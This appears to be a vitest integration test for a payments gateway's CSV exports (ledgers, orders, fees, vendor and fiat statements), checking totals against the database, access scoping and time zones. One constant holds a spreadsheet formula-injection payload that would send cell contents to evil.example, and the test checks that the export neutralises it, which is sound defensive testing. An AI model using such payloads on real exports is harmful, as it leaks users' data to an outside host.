import { randomUUID } from 'node:crypto';
import type { Actor, OrderTrigger } from '@causeway/protocol';
import type pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { enableFiatAccounts, startBank } from '../../../../../test/harness/bank.ts';
import { connect } from '../../../../../test/harness/database.ts';
import { startGateway, type TestGateway } from '../../../../../test/harness/gateway.ts';
import { fiatDriver } from '../../../../../test/scenarios/fiat-driver.ts';
import { type OrdersDriver, ordersDriver } from '../../../../../test/scenarios/orders-driver.ts';
import { holderOf, type VendorClient, vendorClients } from '../../../../../test/scenarios/vendor-driver.ts';
import { SYSTEM } from '../../db/database.ts';
import { unitOfWork } from '../../engine/unit-of-work.ts';
import { actOnOrder } from '../orders/lifecycle/act-on-order.ts';

const DETAILS = { iban: 'DE02120300000000202051', full_name: 'Vendor' };
const HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"invoice"),;@SUM(1)\r\n-2';
const PARTNER = '/api/v1/partner/exports';

type Line = Readonly<Record<string, string>>;

/** A reader of its own, by the grammar of RFC 4180: what it cannot read is not CSV. */
function parseCsv(text: string): Line[] {
  const records: string[][] = [];
  let rest = text;
  while (rest !== '') {
    const record: string[] = [];
    for (;;) {
      const match = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(rest);
      if (match === null) throw new Error(`not CSV: ${JSON.stringify(rest.slice(0, 80))}`);
      record.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '');
      rest = rest.slice(match[0].length);
      if (match[3] === '\r\n') break;
    }
    records.push(record);
  }
  const [names = [], ...lines] = records;
  return lines.map((cells) => {
    expect(cells).toHaveLength(names.length);
    return Object.fromEntries(names.map((name, index) => [name, cells[index] ?? '']));
  });
}

const atomic = (text: string) => BigInt(text.replace('.', ''));
const sum = (lines: readonly Line[], column: string) =>
  lines.reduce((total, line) => total + atomic(line[column] || '0'), 0n);

/** No worker and no chain: what the chain would report is reported by the test. */
describe('exports', () => {
  let gateway: TestGateway;
  let driver: OrdersDriver;
  let vendors: readonly VendorClient[];
  let bank: ReturnType<typeof startBank>;
  let owner: pg.Client;
  let partnerIds: string[];
  const orders: Record<string, string> = {};

  beforeAll(async () => {
    gateway = await startGateway({ env: { RATE_LIMIT_PARTNER_PER_MINUTE: '1000000' } });
    driver = ordersDriver(gateway);
    vendors = await vendorClients(gateway);
    bank = startBank(gateway);
    owner = await connect(gateway.databaseUrl);
    partnerIds = await Promise.all(
      gateway.partners.map(async ({ apiKey }) => {
        const found = await gateway.deps.principals.find(apiKey);
        return (found as { partnerId: string }).partnerId;
      }),
    );
    orders.sold = await sold(await onramp(HOSTILE));
    orders.returned = await returned(await onramp('plain-2'));
    orders.bought = await bought(await driver.offrampOrder());
    orders.refunded = await refunded(await driver.offrampOrder());
    orders.failed = await driver.offrampOrder();
    await report(orders.failed, ['escrow_failed', 'system']);
    await ordersDriver(gateway, gateway.partners[1]).onrampOrder();
  });
  afterAll(async () => {
    await owner?.end();
    await bank?.stop();
    await gateway?.stop();
  });

  const report = (orderId: string, ...facts: [OrderTrigger, Actor][]) =>
    unitOfWork(gateway.deps, SYSTEM, async (unit) => {
      for (const [trigger, actor] of facts) {
        await actOnOrder(unit, gateway.deps.orderAdapters, orderId, trigger, actor);
      }
    });

  async function onramp(reference_id: string): Promise<string> {
    const quote = await gateway.call('POST', '/api/v1/partner/onramp/quote', {
      body: {
        user_uuid: await driver.user(),
        crypto_currency: 'USDC',
        fiat_currency: 'EUR',
        fiat_amount: '123.45',
        partner_fee_pct: '1.5',
      },
    });
    const order = await gateway.call('POST', '/api/v1/partner/onramp/initiate', {
      body: { quote_id: quote.body.data.quote_id, reference_id },
    });
    const orderId = order.body.data.order_id as string;
    const vendor = await holderOf(gateway, vendors, orderId);
    const refund_signature = await vendor.sign(orderId, 'refund');
    const accepted = await vendor.act(orderId, 'accept', { refund_signature, payment_details: DETAILS });
    expect(accepted.status).toBe(200);
    await report(orderId, ['escrow_funded', 'chain']);
    return orderId;
  }

  async function sold(orderId: string): Promise<string> {
    await driver.act(orderId, 'confirm-payment-sent');
    const vendor = await holderOf(gateway, vendors, orderId);
    const release_signature = await vendor.sign(orderId, 'release');
    expect((await vendor.act(orderId, 'fiat-confirmed', { release_signature })).status).toBe(200);
    await report(orderId, ['release_confirmed', 'chain']);
    expect((await driver.read(orderId)).status).toBe('completed');
    return orderId;
  }

  async function returned(orderId: string): Promise<string> {
    expect((await driver.act(orderId, 'cancel')).status).toBe(200);
    await report(orderId, ['refund_confirmed', 'chain']);
    return orderId;
  }

  async function deposited(orderId: string): Promise<VendorClient> {
    const vendor = await holderOf(gateway, vendors, orderId);
    const refund_signature = await vendor.sign(orderId, 'refund');
    expect((await vendor.act(orderId, 'sign-refund', { refund_signature })).status).toBe(200);
    await report(orderId, ['transfer_authorized', 'partner'], ['deposit_finalized', 'chain']);
    return vendor;
  }

  async function bought(orderId: string): Promise<string> {
    const vendor = await deposited(orderId);
    const release_signature = await vendor.sign(orderId, 'release');
    const proof = { payment_reference: 'E2E-1', release_signature };
    expect((await vendor.act(orderId, 'payment-proof', proof)).status).toBe(200);
    await report(orderId, ['proof_review_started', 'operator'], ['proof_accepted', 'operator']);
    expect((await driver.act(orderId, 'confirm-fiat-received')).status).toBe(200);
    await report(orderId, ['release_confirmed', 'chain']);
    expect((await driver.read(orderId)).status).toBe('completed');
    return orderId;
  }

  async function refunded(orderId: string): Promise<string> {
    await deposited(orderId);
    expect((await driver.act(orderId, 'cancel')).status).toBe(200);
    await report(orderId, ['refund_authorized', 'partner'], ['refund_confirmed', 'chain']);
    return orderId;
  }

  const get = (path: string, key: string = gateway.partners[0].apiKey) => gateway.call('GET', path, { key });

  async function read(path: string, key?: string): Promise<Line[]> {
    const { status, text } = await get(path, key);
    expect([path, status]).toEqual([path, 200]);
    return parseCsv(text);
  }

  /** What the books hold, straight from the database. */
  async function booked(condition: string, ...values: unknown[]): Promise<bigint> {
    const { rows } = await owner.query(
      `SELECT coalesce(sum(p.amount), 0)::text AS total FROM ledger_postings p JOIN ledger_entries e USING (entry_id)
        WHERE ${condition}`,
      values,
    );
    return BigInt(rows[0].total);
  }

  it('ledger.csv is the partner’s books: each account holds what the database says, and every asset sums to zero', async () => {
    const lines = await read(`${PARTNER}/ledger.csv`);
    const accounts = Map.groupBy(lines, ({ account, asset }) => `${account} ${asset}`);
    expect(accounts.size).toBeGreaterThan(7);
    for (const [name, postings] of accounts) {
      const [account, asset] = name.split(' ');
      const expected = await booked(
        'p.account = $1 AND p.asset = $2 AND e.partner_id = $3',
        account,
        asset,
        partnerIds[0],
      );
      expect([name, sum(postings, 'amount_atomic'), sum(postings, 'amount')]).toEqual([
        name,
        expected,
        expected,
      ]);
    }
    for (const [entry, postings] of Map.groupBy(lines, ({ entry_id, asset }) => `${entry_id} ${asset}`)) {
      expect([entry, sum(postings, 'amount_atomic')]).toEqual([entry, 0n]);
    }
    expect(new Set(lines.map(({ kind }) => kind))).toEqual(
      new Set([
        ...['vendor_escrow_funded', 'escrow_released', 'escrow_returned_to_vendor'],
        ...['partner_escrow_funded', 'escrow_refunded'],
      ]),
    );
    const times = lines.map(({ booked_at }) => Date.parse(booked_at ?? ''));
    expect(times).toEqual(times.toSorted((left, right) => left - right));
    // Negative amounts are numbers, not texts.
    expect(lines.some(({ amount }) => amount?.startsWith('-'))).toBe(true);
  });

  // Proves D13.7.
  it('orders.csv has every order once, and what went through its escrow as the books have it', async () => {
    const lines = await read(`${PARTNER}/orders.csv`);
    expect(new Set(lines.map(({ order_id }) => order_id))).toEqual(new Set(Object.values(orders)));
    expect(lines).toHaveLength(5);
    for (const line of lines) {
      const order = await driver.read(line.order_id ?? '');
      expect(line).toMatchObject({
        status: order.status,
        order_type: order.order_type,
        crypto_amount: order.amounts.crypto_amount,
        fiat_amount: order.amounts.fiat_amount,
        platform_fee: order.fee_breakdown.platform_fee,
        partner_fee: order.fee_breakdown.partner_fee,
        total_fee: order.fee_breakdown.total_fee,
      });
      const escrow = `escrow:${line.order_id}`;
      expect(atomic(line.escrow_in ?? '')).toBe(await booked('p.account = $1 AND p.amount > 0', escrow));
      expect(-atomic(line.escrow_out ?? '')).toBe(await booked('p.account = $1 AND p.amount < 0', escrow));
      expect([order.status, line.settled_at !== '']).toEqual([order.status, order.status === 'completed']);
    }
  });

  // Proves D13.7.
  it('fees.csv sums to what the treasury and, off-ramp, the partner were paid', async () => {
    const lines = await read(`${PARTNER}/fees.csv`);
    expect(lines.map(({ order_id }) => order_id)).toEqual([orders.sold, orders.bought]);
    expect(sum(lines, 'platform_fee')).toBe(
      await booked(`p.account LIKE 'treasury:%' AND e.partner_id = $1`, partnerIds[0]),
    );
    expect(sum(lines, 'platform_fee') > 0n).toBe(true);
    expect(sum(lines, 'total_fee')).toBe(sum(lines, 'platform_fee') + sum(lines, 'partner_fee'));
    expect(atomic(lines[1]?.partner_fee ?? '')).toBe(
      await booked(
        `p.account LIKE 'outside:partner:%' AND e.kind = 'escrow_released' AND e.order_id = $1`,
        orders.bought,
      ),
    );
  });

  // Proves D13.7.
  it('a vendor’s statement has its settled orders and sums to what GET /vendor/statement says', async () => {
    let settled = 0;
    for (const vendor of vendors) {
      const lines = await read('/api/v1/vendor/exports/statement.csv', vendor.key);
      const { totals, pagination } = (await vendor.api.statement()).body.data;
      expect(lines).toHaveLength(pagination.total);
      settled += lines.length;
      const figures: Record<string, { received: string; paid: string }> = Object.fromEntries(
        totals.map((one) => [one.asset, one]),
      );
      const assets = Map.groupBy(lines, ({ crypto_currency, chain }) => `${crypto_currency}@${chain}`);
      for (const [asset, own] of assets) {
        expect(sum(own, 'crypto_received')).toBe(atomic(figures[asset]?.received ?? ''));
        expect(sum(own, 'crypto_paid')).toBe(atomic(figures[asset]?.paid ?? ''));
      }
      if (lines.length === 0) continue;
      expect(sum(lines, 'fiat_received')).toBe(atomic(figures.EUR?.received ?? ''));
      expect(sum(lines, 'fiat_paid')).toBe(atomic(figures.EUR?.paid ?? ''));
    }
    expect(settled).toBe(2);
  });

  it('an operator has the books and orders of all partners, or of one; a partner only its own', async () => {
    const key = gateway.sandbox.operatorKey;
    const books = await read('/api/v1/operator/exports/ledger.csv', key);
    const { rows } = await owner.query('SELECT count(*)::int AS postings FROM ledger_postings');
    expect(books).toHaveLength(rows[0].postings);
    const all = await read('/api/v1/operator/exports/orders.csv', key);
    expect(new Set(all.map(({ partner_id }) => partner_id))).toEqual(new Set(partnerIds));
    const neighbours = await read(`/api/v1/operator/exports/orders.csv?partner_id=${partnerIds[1]}`, key);
    const own = await read(`${PARTNER}/orders.csv`, gateway.partners[1].apiKey);
    expect(own.map(({ order_id }) => order_id)).toEqual(neighbours.map(({ order_id }) => order_id));
    expect(own).toHaveLength(1);
    expect(Object.values(orders)).not.toContain(own[0]?.order_id);
    expect(await read(`${PARTNER}/ledger.csv`, gateway.partners[1].apiKey)).toEqual([]);
    for (const path of [`${PARTNER}/orders.csv`, '/api/v1/vendor/exports/statement.csv']) {
      expect((await get(path, key)).body.error.details.given_key).toBe('operator');
    }
  });

  it('what others wrote is never a formula, and is read back as it was but for the apostrophes', async () => {
    const { text } = await get(`${PARTNER}/orders.csv`);
    const line = parseCsv(text).find(({ order_id }) => order_id === orders.sold);
    expect(line?.reference_id).toBe(`'=HYPERLINK("https://evil.example/?x="&A1,"invoice"),;'@SUM(1)\r\n'-2`);
    expect(text).not.toMatch(/(^|[,;\n]"?)=/m);
  });

  it('days are those of the place, also when the clock changes', async () => {
    const moments = [
      '2026-03-28T22:59:59.999Z',
      '2026-03-28T23:00:00.000Z',
      '2026-03-29T00:30:00.000Z',
      '2026-03-29T01:30:00.000Z',
      '2026-03-29T21:59:59.999Z',
      '2026-03-29T22:00:00.000Z',
    ];
    const key = gateway.partners[1].apiKey;
    const second = ordersDriver(gateway, gateway.partners[1]);
    for (const at of moments) {
      await owner.query('UPDATE orders SET created_at = $2 WHERE order_id = $1', [
        await second.onrampOrder(),
        at,
      ]);
    }
    const day = (zone: string) =>
      read(`${PARTNER}/orders.csv?from=2026-03-29&to=2026-03-29&time_zone=${zone}`, key);
    expect((await day('Europe/Berlin')).map(({ created_at }) => created_at)).toEqual([
      '2026-03-29T00:00:00.000+01:00',
      '2026-03-29T01:30:00.000+01:00',
      '2026-03-29T03:30:00.000+02:00',
      '2026-03-29T23:59:59.999+02:00',
    ]);
    expect((await day('UTC')).map(({ created_at }) => created_at)).toEqual([
      '2026-03-29T00:30:00.000+00:00',
      '2026-03-29T01:30:00.000+00:00',
      '2026-03-29T21:59:59.999+00:00',
      '2026-03-29T22:00:00.000+00:00',
    ]);
    const { headers } = await get(`${PARTNER}/orders.csv?from=2026-03-01&to=2026-03-31`, key);
    expect(headers.get('content-disposition')).toBe(
      'attachment; filename="orders_2026-03-01_2026-03-31.csv"',
    );
  });

  it.each([
    ['from=2026-02-30', 'from'],
    ['from=2026-3-1', 'from'],
    ['to=yesterday', 'to'],
    ['from=2026-03-02&to=2026-03-01', 'to'],
    ['from=2025-01-01&to=2026-01-02', 'to'],
    ['time_zone=Mars/Olympus', 'time_zone'],
    ['time_zone=%2B01:00', 'time_zone'],
    ['time_zone=', 'time_zone'],
    [`time_zone=${'x'.repeat(65)}`, 'time_zone'],
  ])('%s is refused', async (query, path) => {
    const refused = await get(`${PARTNER}/ledger.csv?${query}`);
    expect([refused.status, refused.body.error.code]).toEqual([400, 'VALIDATION_ERROR']);
    expect(refused.body.error.details.fields).toMatchObject([{ path }]);
  });

  it('a year, leap day included, is not too long', async () => {
    expect((await get(`${PARTNER}/orders.csv?from=2024-01-01&to=2024-12-31`)).status).toBe(200);
  });

  // Proves D13.7.
  it('the statement of a fiat account begins and ends with its balance, and is its own partner’s', async () => {
    const fiat = fiatDriver(gateway);
    const userId = await fiat.customer();
    const accountId = await fiat.account(userId);
    for (const [amount, reference] of [
      ['10.00', '=1+1'],
      ['2.50', 'rent'],
      ['0.01', null],
    ] as const) {
      await fiat.deposit(userId, accountId, { amount, ...(reference === null ? {} : { reference }) });
    }
    const path = `${PARTNER}/fiat-accounts/${accountId}.csv`;
    const lines = await read(path);
    expect(
      lines.map(({ kind, amount, balance_after, reference }) => [kind, amount, balance_after, reference]),
    ).toEqual([
      ['opening_balance', '', '0.00', ''],
      ['deposit', '10.00', '10.00', "'=1+1"],
      ['deposit', '2.50', '12.50', 'rent'],
      ['deposit', '0.01', '12.51', ''],
      ['closing_balance', '', '12.51', ''],
    ]);
    const { balance, entries } = await fiat.ledger(userId, accountId);
    expect(lines.at(-1)?.balance_after).toBe(balance);
    expect(lines.slice(1, -1).map(({ entry_id }) => entry_id)).toEqual(
      entries.map(({ id }: { id: string }) => id).reverse(),
    );
    const { rows } = await owner.query('SELECT max(created_at)::date::text AS today FROM ledger_entries');
    const tomorrow = new Date(Date.parse(rows[0].today) + 86_400_000).toISOString().slice(0, 10);
    const later = await read(`${path}?from=${tomorrow}&to=${tomorrow}`);
    expect(later.map(({ kind, balance_after }) => [kind, balance_after])).toEqual([
      ['opening_balance', '12.51'],
      ['closing_balance', '12.51'],
    ]);

    // An erased holder's money is still in the books; what was written with it is gone.
    const erased = await gateway.call('POST', `/api/v1/operator/users/${userId}/erase`, {
      key: gateway.sandbox.operatorKey,
      body: { reason: 'a test' },
    });
    expect(erased.status).toBe(200);
    expect((await read(path)).map(({ balance_after, reference }) => [balance_after, reference])).toEqual(
      ['0.00', '10.00', '12.50', '12.51', '12.51'].map((balance) => [balance, '']),
    );

    await enableFiatAccounts(gateway, 1);
    const neighbour = gateway.partners[1].apiKey;
    const foreign = await get(path, neighbour);
    expect([foreign.status, foreign.body.error.code]).toEqual([404, 'FIAT_ACCOUNT_NOT_FOUND']);
    for (const id of ['retail_999999999', 'business_1', 'x'.repeat(65), randomUUID()]) {
      expect((await get(`${PARTNER}/fiat-accounts/${id}.csv`, neighbour)).text).toBe(foreign.text);
    }
    expect((await get(`${PARTNER}/fiat-accounts/${accountId}`)).status).toBe(404);
  });
});
